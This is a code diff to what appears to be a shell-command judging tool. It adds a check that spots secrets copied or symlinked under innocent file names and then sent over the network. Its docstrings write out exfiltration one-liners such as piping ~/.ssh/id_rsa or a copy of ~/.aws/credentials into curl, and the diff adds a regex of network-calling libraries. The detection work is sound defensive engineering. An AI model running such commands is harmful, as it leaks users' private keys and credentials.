@@ -28,7 +28,8 @@ from adr.actions import Action, ActionKind, Evidence, Finding, RuleAction, Sever
 from adr.daemon.cpuclock import decision_clock
 from adr.engine.core import Budget, parse_line
 from adr.shell import runs as R
-from adr.shell.parse import MAX_SOURCE, files_sent
+from adr.shell.parse import _STDIN_SENDERS, MAX_SOURCE, files_sent, inputs_of
+from adr.shell.uploads import _UPLOADERS
 
 _SPECIAL = ("/proc/", "/sys/", "/dev/")
 # Rules that ask because a value is known only at run time. On an agent's one-liner that hides the
@@ -230,6 +231,7 @@ class _Walk:
         if self.memory is not None:
             self.sends(parsed, cwd, depth, note)
             self.containers(parsed, cwd, depth, note)
+        self.reads_sent(parsed, text, cwd, depth, note)
         self.curl_configs(parsed, cwd, depth, note)
         runs = R.runs_of(parsed, cwd, self.home, frozenset(self.defs))
         if not runs:
@@ -288,6 +290,43 @@ class _Walk:
                         self.sent_from(path, f, sender, cwd, depth, note, 0)
             if c.program == "git" and "add" in c.args[:3]:
                 self.staged_copies(c, here, depth, note)
+
+    def reads_sent(self, parsed: Any, text: str, cwd: str, depth: int, note: str) -> None:
+        """A line that sends over the network and reads a file an earlier call made from another one
+        (`cp ~/.ssh/id_rsa notes.txt` or `ln -s ~/.aws/credentials d.json`, then `cat notes.txt | curl
+        -d @- URL`, `curl -d "$(cat notes.txt)" URL`, code that opens it and posts it): judged again
+        with the file named by where it came from — `cat ~/.ssh/id_rsa | curl -d @- URL` — as the
+        sender's own file operands are (sends). A symlink on disk is named by what it points at."""
+        commands = [c for c in parsed.commands[:64] if c.argv]
+        if not any(c.program in _LINE_SENDERS or any(_NET_CODE.search(a[:65536]) for a in c.args[:16] if " " in a)
+                   for c in commands):
+            return
+        here = cwd
+        swaps: dict[str, str] = {}
+        for c in commands:
+            if c.program in ("cd", "pushd") and not c.via:
+                here = R.cd_target(c.args, here, self.home)
+                continue
+            for f in inputs_of(c):
+                if f in swaps or "$" in f or f.startswith("-") or len(swaps) >= 16:
+                    continue
+                for d in dict.fromkeys((here, cwd)):
+                    path = R.resolve(f, d, self.home)
+                    if not path or path.startswith(("/dev/", "/proc/")):
+                        continue
+                    source = _made_from(self.recall(path))
+                    if source is None:
+                        source = _link_target(path)
+                    if source:
+                        swaps[f] = source
+                        break
+        if not swaps:
+            return
+        said = _note(note, "reads " + ", ".join(f"{f} (made from `{s[:120]}`)" for f, s in swaps.items()))
+        swapped = re.sub("|".join(rf"(?<![\w./~-]){re.escape(f)}(?![\w./-])" for f in sorted(swaps, key=len, reverse=True)),
+                         lambda m: swaps[m.group(0)], text[:MAX_SOURCE])
+        if swapped != text:
+            self.judge(swapped, cwd, depth + 1, said, follow=False)
 
     def staged_copies(self, c: Any, here: str, depth: int, note: str) -> None:
         """`git add notes.txt` where an earlier call made notes.txt a copy of `.env`: judged as `git add`
@@ -763,6 +802,35 @@ def _folder_entry(folder: str, language: str) -> str:
             if os.path.isfile(p):
                 return p
     return ""
+
+
+# a line that sends what it reads: a network sender, or code that calls out (`python3 -c "…requests.post…"`)
+_LINE_SENDERS = (_STDIN_SENDERS | _UPLOADERS) - {"git", "logger", "dig", "openssl", "ssh"}
+_NET_CODE = re.compile(r"://|\b(?:socket|requests|urllib|urlopen|httpx|fetch|http\.client|net\.connect|Net::HTTP|"
+                       r"LWP|IO::Socket|XMLHttpRequest|WebSocket|smtplib|ftplib)\b")
+_CAT_ONE = re.compile(r"cat (~?[^\s|;&<>(){}$`]+)")
+
+
+def _made_from(w: Any) -> "str | None":
+    """What a remembered file holds, as a word a reader can be given in its place: the file it was
+    copied from (`cat SRC`), or the producer as a process substitution (`<(tar c ~/.ssh)`)."""
+    if w is None or not w.producer:
+        return None
+    m = _CAT_ONE.fullmatch(w.producer.strip())
+    if m:
+        return m.group(1)
+    return f"<({w.producer[:4096]})"
+
+
+def _link_target(path: str) -> "str | None":
+    """A symlink on disk (made outside adr's sight, or in a call it cannot recall): where it points."""
+    try:
+        if not os.path.islink(path):
+            return None
+        real = os.path.realpath(path)
+    except (OSError, ValueError):
+        return None
+    return real if real != path else None
 
 
 def _arg_word(a: str) -> str:
